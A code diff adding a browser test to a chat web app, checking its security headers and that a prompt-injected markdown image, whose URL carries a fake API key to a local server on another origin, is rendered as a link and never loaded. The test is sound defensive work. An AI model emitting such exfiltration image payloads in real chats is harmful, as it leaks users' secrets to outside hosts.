@@ -1,3 +1,5 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { execFile } from 'node:child_process';
 import { promisify } from 'node:util';
 import AxeBuilder from '@axe-core/playwright';
@@ -413,6 +415,38 @@ describe.skipIf(!browserAvailable())('web app in a browser', () => {
     expect(await page.locator('.log script').count()).toBe(0);
     expect(await page.locator('.log img[onerror]').count()).toBe(0);
     await page.close();
+  });
+
+  it('the app is served with a CSP that keeps its pages to this server, no framing, nosniff; an image in model text from elsewhere is not loaded but linked', async () => {
+    for (const path of ['/', '/some/page']) {
+      const page = await fetch(`${server.url}${path}`, { headers: { accept: 'text/html' } });
+      expect(page.status).toBe(200);
+      expect(page.headers.get('content-security-policy')).toMatch(/default-src 'self';.*img-src 'self' data: blob:;.*frame-ancestors 'none'/);
+      expect(page.headers.get('x-content-type-options')).toBe('nosniff');
+      expect(page.headers.get('x-frame-options')).toBe('DENY');
+    }
+    // A prompt-injected image whose URL carries what the model saw, on another origin.
+    const hits: string[] = [];
+    const elsewhere = createServer((request, response) => {
+      hits.push(request.url ?? '');
+      response.end();
+    });
+    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+    try {
+      const { port } = elsewhere.address() as AddressInfo;
+      const threadId = await apiThread({ title: 'Exfiltration' });
+      const injected = `![status](http://127.0.0.1:${port}/pixel.png?d=my-api-key-is-sk-123)`;
+      expect((await server.request('POST', `/api/threads/${threadId}/messages`, { body: { content: injected } })).status).toBe(200);
+      const page = await signedIn(ALICE.token, 1440, `#chat/${threadId}`);
+      const reply = page.getByRole('log', { name: 'Conversation' }).locator('article.assistant');
+      await reply.getByRole('link', { name: 'image: status' }).waitFor();
+      expect(await page.locator('.log img').count()).toBe(0);
+      await page.waitForLoadState('networkidle');
+      expect(hits).toEqual([]);
+      await page.close();
+    } finally {
+      await new Promise((resolve) => elsewhere.close(resolve));
+    }
   });
 
   it('works at 375 px: threads behind a toggle, chat and views without serious axe violations', async () => {
